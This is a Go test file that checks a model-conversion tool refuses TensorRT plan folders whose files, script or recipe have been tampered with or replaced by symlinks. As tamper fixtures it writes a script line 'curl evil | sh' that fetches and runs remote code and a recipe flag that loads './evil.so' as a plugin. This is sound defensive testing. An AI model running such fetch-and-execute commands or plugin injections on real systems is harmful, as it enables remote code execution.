package plans

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"syncsam-convert/artifact"
	"syncsam-convert/backends/tensorrt"
	"syncsam-convert/ir"
	"syncsam-convert/ir/tensor"
)

// folder writes an artifact with a plan folder whose manifests hold.
func folder(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	plan := filepath.Join(dir, Name)
	require.NoError(t, os.Mkdir(plan, 0o755))
	b := ir.NewBuilder("encoder")
	b.Output("y", b.Relu(b.Input("image", tensor.Float32, tensor.Symbol("N"), tensor.Static(3))))
	g, err := b.Graph()
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(plan, "encoder.onnx"), []byte("model"), 0o644))
	model, err := artifact.Describe(plan, "encoder.onnx")
	require.NoError(t, err)
	r, err := tensorrt.NewRecipe(&ir.Module{Graphs: []*ir.Graph{g}}, "fp16", tensorrt.Spans(), []string{"8.6", "10"}, map[string]string{"encoder.onnx": model.SHA256})
	require.NoError(t, err)
	text, err := r.JSON()
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(plan, tensorrt.RecipeName), text, 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(plan, tensorrt.ScriptName), []byte(r.Script()), 0o755))
	seal(t, dir, "encoder.onnx", tensorrt.RecipeName, tensorrt.ScriptName)
	return dir
}

// seal writes both manifests anew, as someone who changes a folder can.
func seal(t *testing.T, dir string, names ...string) {
	t.Helper()
	write := func(dir string, names ...string) {
		m := &artifact.Manifest{Meta: ir.Meta{Family: "f", Preprocess: ir.Preprocess{Size: 8, Std: [3]float64{1, 1, 1}}}}
		for _, name := range names {
			file, err := artifact.Describe(dir, name)
			require.NoError(t, err)
			m.Files = append(m.Files, file)
		}
		require.NoError(t, m.Write(dir))
	}
	write(filepath.Join(dir, Name), names...)
	write(dir, Name+"/"+artifact.ManifestName)
}

// A plan folder is used when every file of it is the one that its manifests list, and the script is the recipe's.
func TestOpen(t *testing.T) {
	all := []string{"encoder.onnx", tensorrt.RecipeName, tensorrt.ScriptName}
	f, err := Open(folder(t))
	require.NoError(t, err)
	require.Len(t, f.Recipe.Engines, 1)
	for want, change := range map[string]func(dir, plan string){
		"as in the manifest": func(_, plan string) {
			require.NoError(t, os.WriteFile(filepath.Join(plan, "encoder.onnx"), []byte("other"), 0o644))
		},
		"plan/manifest.json: have": func(dir, plan string) {
			outer := filepath.Join(dir, artifact.ManifestName)
			text, err := os.ReadFile(outer)
			require.NoError(t, err)
			require.NoError(t, os.WriteFile(filepath.Join(plan, "encoder.onnx"), []byte("other"), 0o644))
			seal(t, dir, all...)
			require.NoError(t, os.WriteFile(outer, text, 0o644))
		},
		"does not list it": func(dir, plan string) { seal(t, dir, all[1:]...) },
		"it is a link": func(dir, plan string) {
			away := filepath.Join(t.TempDir(), "x")
			require.NoError(t, os.Rename(filepath.Join(plan, "encoder.onnx"), away))
			require.NoError(t, os.Symlink(away, filepath.Join(plan, "encoder.onnx")))
		},
		"not the script of the recipe": func(dir, plan string) {
			require.NoError(t, os.WriteFile(filepath.Join(plan, tensorrt.ScriptName), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
			seal(t, dir, all...)
		},
		"engines: encoder.onnx: have sha256": func(dir, plan string) {
			require.NoError(t, os.WriteFile(filepath.Join(plan, "encoder.onnx"), []byte("other"), 0o644))
			seal(t, dir, all...)
		},
		`unknown field "trtexec_flags"`: func(dir, plan string) {
			path := filepath.Join(plan, tensorrt.RecipeName)
			text, err := os.ReadFile(path)
			require.NoError(t, err)
			var m map[string]any
			require.NoError(t, json.Unmarshal(text, &m))
			m["tensorrt"].([]any)[0].(map[string]any)["trtexec_flags"] = []string{"--plugins=./evil.so"}
			text, err = json.Marshal(m)
			require.NoError(t, err)
			require.NoError(t, os.WriteFile(path, text, 0o644))
			seal(t, dir, all...)
		},
	} {
		t.Run(want, func(t *testing.T) {
			dir := folder(t)
			change(dir, filepath.Join(dir, Name))
			_, err := Open(dir)
			require.ErrorContains(t, err, want)
			require.NotContains(t, strings.TrimSpace(err.Error()), "\n")
		})
	}
}

// trtexec writes through links: a folder that has one where a plan, its sidecar or the timing cache goes is not built.
func TestNothingIsWrittenThroughLinks(t *testing.T) {
	for _, name := range []string{"encoder.plan", "encoder.plan.json", tensorrt.TimingCache} {
		f, err := Open(folder(t))
		require.NoError(t, err)
		require.NoError(t, f.writable(f.Recipe.Engines[0]))
		require.NoError(t, os.Symlink(filepath.Join(t.TempDir(), "victim"), filepath.Join(f.Dir, name)))
		require.ErrorContains(t, f.writable(f.Recipe.Engines[0]), "have a link")
	}
}
